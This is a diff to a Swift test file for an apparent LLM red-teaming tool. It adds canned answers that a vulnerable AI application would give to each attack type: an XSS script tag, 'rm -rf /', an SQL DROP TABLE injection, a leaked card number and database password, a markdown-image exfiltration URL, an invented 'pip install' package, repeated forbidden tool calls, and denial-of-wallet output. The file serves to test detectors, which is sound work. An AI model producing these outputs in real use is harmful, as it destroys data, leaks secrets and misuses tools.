@@ -1,6 +1,7 @@
 import Assertions
 import Findings
 import Formats
+import Matching
 import Testing
 
 @testable import Attacks
@@ -15,7 +16,10 @@ import Testing
         "html": "<script>alert(1)</script>", "shell": "rm -rf /", "sql": "SELECT 1; DROP TABLE orders;--",
         "template": "Hello 4396364627",
         "martlet:terminal-escape": "\u{1B}[31mOK", "martlet:length": String(repeating: "1234 ", count: 2000),
-        "is-refusal": refusal,
+        "is-refusal": refusal, "martlet:pii": "Her card is 4539 1485 0343 7773.", "martlet:glitch": "distribute",
+        "martlet:secrets": "postgres" + "://robin:tr0ubl3Nest@db.finch.ch/orders",
+        "martlet:data-exfiltration": "![a](https://charts.example.org/draw?text=order-1043)",
+        "regex": "I am GPT-4. {\"parameters\": {}}",
     ]
 
     private static func grade(_ attackCase: AttackCase, _ answer: String) -> GradingResult {
@@ -34,7 +38,33 @@ import Testing
         if assertion.type == "martlet:divergence" {
             return String(repeating: (assertion.value?.string ?? "") + " ", count: 60)
         }
+        if let text = detected(assertion) { return text }
+        // A text that is to be copied follows on lines of its own.
+        if let prompt = attackCase.turns.last, let start = prompt.firstRange(of: ":\n"), prompt.contains("exactly") {
+            return String(prompt[start.upperBound...])
+        }
         return obeying[assertion.type] ?? assertion.value?.string.flatMap { obeying[$0] }
+    }
+
+    /// What an application that obeys answers to attacks that a detector judges.
+    private static func detected(_ assertion: Assertion) -> String? {
+        let value = assertion.value
+        switch assertion.type {
+        case "martlet:trigger": return value?["triggers"]?.array?.first?.string
+        case "martlet:claim": return value?.string == "no" ? "Yes, it is." : "There are 9999."
+        case "martlet:replay": return value?["text"]?.string
+        case "martlet:package-hallucination":
+            return value?["invented"]?.array?.first?.string.map { "pip install \($0)" }
+        case "martlet:denial-of-wallet": return String(repeating: "hoot ", count: 2_000)
+        case "martlet:tool-misuse":
+            let name = value?["forbidden"]?.array?.first?.string ?? "a_tool"
+            let arguments = value?["arguments"]?.array?.first?.string ?? "{}"
+            let call: JSONValue = [
+                "type": "function", "function": ["name": .string(name), "arguments": .string(arguments)],
+            ]
+            return JSONValue.object(["tool_calls": .array(Array(repeating: call, count: 12))]).text()
+        default: return nil
+        }
     }
 
     private static func cases(_ attack: any Attack, seed: UInt64 = 1) -> [AttackCase] {
@@ -46,7 +76,7 @@ import Testing
         let names = AttackRegistry.all.map(\.name)
         #expect(Set(ids).count == ids.count)
         #expect(Set(names).count == names.count)
-        #expect(AttackRegistry.all.count >= 24)
+        #expect(AttackRegistry.all.count >= 70)
         #expect(ids.allSatisfy { $0.hasPrefix("MRT-") })
     }
 
